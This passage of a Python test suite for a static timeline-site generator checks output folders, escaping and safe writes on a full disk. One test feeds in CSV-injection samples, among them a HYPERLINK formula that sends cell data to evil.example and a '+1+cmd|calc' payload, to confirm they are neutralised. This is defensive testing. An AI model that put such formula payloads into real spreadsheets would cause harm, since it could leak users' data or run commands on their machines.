    assert not (root / "site" / "stale.html").exists()
    assert (root / "site" / ".frise-output").is_file()


def test_empty_folder_without_marker_is_used(good: Path, tmp_path: Path) -> None:
    root = _case_project(good, tmp_path, Case("ok", {"content/site.yaml":
                                                    SITE + "output: public\n"}, ()))
    (root / "public").mkdir()
    status, err, _ = _build(root)
    assert (status, err) == (0, [])
    assert (root / "public" / "index.html").is_file()
    assert (root / "public" / ".frise-output").is_file()


def test_csv_cells_do_not_start_formulas(good: Path, tmp_path: Path) -> None:
    """events.csv is opened in spreadsheets (TimelineJS sheets live in Google Sheets): a
    title or label starting with = + - @ must not become a formula (OWASP CSV injection)."""
    formula = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    site = _built(good, tmp_path, {
        E: event(title=json.dumps(formula), extra="tags: [t]\n"),
        "content/events/f.yaml": event(title="'+1+cmd|calc'", date="2021"),
        "content/site.yaml": "title: '@SUM(1+1)'\n",
        "content/tags.yaml": "t:\n  label: '-2+3'\n"})
    rows = list(csv.reader(io.StringIO((site / "events.csv").read_text(encoding="utf-8"))))
    header = rows[0]
    text_columns = [header.index(c) for c in ("Display Date", "Headline", "Group")]
    cells = [row[i] for row in rows[1:] for i in text_columns]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], cells
    # kept as text, visibly: typeset, then escaped as TimelineJS reads HTML
    assert "'" + escape(typography.text(formula, "en"), quote=False) in cells


def test_every_template_is_autoescaped(good: Path) -> None:
    """`autoescape=True`, not `select_autoescape()`, which skips .xml, .json and .txt."""
    from generator.site.theme import load_theme

    env = load_theme(good).env
    assert env.autoescape is True  # for every template name, whatever its extension
    assert env.loader is not None
    for template in env.list_templates():  # and no template turns it off or marks text safe
        source = env.loader.get_source(env, template)[0]
        assert not re.search(r"{%-?\s*autoescape\s+false|\|\s*safe\b", source), template


def test_a_full_disk_keeps_the_last_good_site(good: Path, tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    """A write that fails half-way (ENOSPC) is a clean error; nothing is lost or left."""
    import errno

    root = _case_project(good, tmp_path, Case("full", {E: event(title="New title")}, ()))
    before = _snapshot(root / "site")
    real_write = Path.write_bytes
    written: list[str] = []

    def write_bytes(self: Path, data: bytes) -> int:
        if ".frise-tmp-" in str(self) and self.name == "index.html":
            written.append(self.name)
            if len(written) == 2:
                raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))
        return real_write(self, data)

    monkeypatch.setattr(Path, "write_bytes", write_bytes)
    status, err, _ = _build(root)
    assert status == 1
    assert len(err) == 2 and err[0].startswith("error: cannot write '")
    assert err[0].endswith(f"into 'site': {os.strerror(errno.ENOSPC)}")
    assert _snapshot(root / "site") == before
    assert not [p for p in root.iterdir() if p.name.startswith(".frise-tmp")]
